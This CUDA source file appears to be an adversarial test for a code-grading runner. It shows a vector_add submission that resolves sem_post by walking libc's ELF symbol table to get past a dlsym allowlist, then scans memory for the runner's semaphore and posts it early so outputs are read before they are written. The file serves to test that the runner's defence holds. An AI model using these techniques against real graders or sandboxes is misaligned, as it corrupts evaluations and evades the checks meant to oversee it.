// ATTACK: tell the runner's thread that this call is over while it goes
// on running, so that the runner works beside graded code (which could
// then rewrite the runner's stack or data as it goes). The runner waits on
// a semaphore in its own data: find it by its shape (a glibc sem_t whose
// one waiter is the runner: the 64-bit word 1 << 32, the rest zero, beside
// the fenced thread's own semaphore, all zero), post it, and watch the
// runner take the post. Defended: the runner believes a call is over only
// once the kernel says the fenced thread sleeps on its job semaphore
// again, so it waits for this function to return. Undefended, the runner
// reads the outputs before the late kernel below has written them; and
// when the semaphore is not found, the outputs are made wrong on purpose,
// so this file passes only where the attack ran and gained nothing.
#include <cuda_runtime.h>
#include <elf.h>
#include <stdio.h>
#include <stdint.h>
#include <string.h>

extern "C" cudaError_t vector_add(const float *d_a, const float *d_b, float *d_c, int n,
                                  cudaStream_t stream);

/* A C library symbol found without the dynamic loader (dlsym is not on the
 * allowlist): from printf back to the library's ELF header, then through
 * its dynamic symbol table. Only allowlisted calls are used. */
static void *find_in_libc(const char *want)
{
    uintptr_t base = (uintptr_t)&printf & ~(uintptr_t)4095;
    while (memcmp((const void *)base, ELFMAG, SELFMAG) != 0) base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = NULL;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    uintptr_t symtab = 0, strtab = 0;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        if (dyn->d_tag == DT_SYMTAB) symtab = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_STRTAB) strtab = dyn->d_un.d_ptr;
    }
    if (symtab < base) symtab += base;
    if (strtab < base) strtab += base;
    const char *names = (const char *)strtab;
    for (const Elf64_Sym *s = (const Elf64_Sym *)symtab; (uintptr_t)s < strtab; s++)
        if (s->st_name && s->st_value && strcmp(names + s->st_name, want) == 0)
            return (void *)(base + s->st_value);
    return NULL;
}

/* The 8-byte words of a sem_t with one waiter and with none. */
static const uint64_t ONE_WAITER = 1ull << 32, IDLE = 0;

static int is_sem(const uint64_t *w, uint64_t first)
{
    return w[0] == first && w[1] == 0 && w[2] == 0 && w[3] == 0;
}

/* The runner's job_done: a waited-on sem_t beside an idle one, in the
 * writable segments of this executable. */
static void *find_runner_semaphore(void)
{
    uintptr_t base = (uintptr_t)&vector_add & ~(uintptr_t)4095;
    while (memcmp((const void *)base, ELFMAG, SELFMAG) != 0) base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    for (int i = 0; i < eh->e_phnum; i++) {
        if (ph[i].p_type != PT_LOAD || !(ph[i].p_flags & PF_W)) continue;
        uintptr_t from = (base + ph[i].p_vaddr + 31) & ~(uintptr_t)31;
        uintptr_t to = base + ph[i].p_vaddr + ph[i].p_memsz;
        for (uintptr_t at = from + 32; at + 64 <= to; at += 32) {
            const uint64_t *w = (const uint64_t *)at;
            if (is_sem(w, ONE_WAITER) && (is_sem(w - 4, IDLE) || is_sem(w + 4, IDLE)))
                return (void *)at;
        }
    }
    return NULL;
}

__global__ void add(const float *a, const float *b, float *c, int n, int wrong)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) c[i] = wrong ? a[i] + b[i] + 1.0f : a[i] + b[i];
}

extern "C" cudaError_t vector_add(const float *d_a, const float *d_b, float *d_c, int n,
                                  cudaStream_t stream)
{
    int wrong = 1;
    /* The runner may not be asleep yet when this call starts. */
    void *done = NULL;
    for (int tries = 0; !done && tries < 100000; tries++) done = find_runner_semaphore();
    int (*post)(void *) = (int (*)(void *))find_in_libc("sem_post");
    if (done && post) {
        volatile uint64_t *word = (volatile uint64_t *)done;
        post(done);
        /* The runner took the post when the word is back to 0 (no waiter,
         * no count); then give it time to read the outputs. */
        for (long spin = 0; spin < 400000000L && *word != 0; spin++) {
        }
        if (*word == 0) {
            wrong = 0;
            for (volatile long spin = 0; spin < 50000000L; spin++) {
            }
        }
    }
    if (n > 0) add<<<(n + 255) / 256, 256, 0, stream>>>(d_a, d_b, d_c, n, wrong);
    return cudaGetLastError();
}
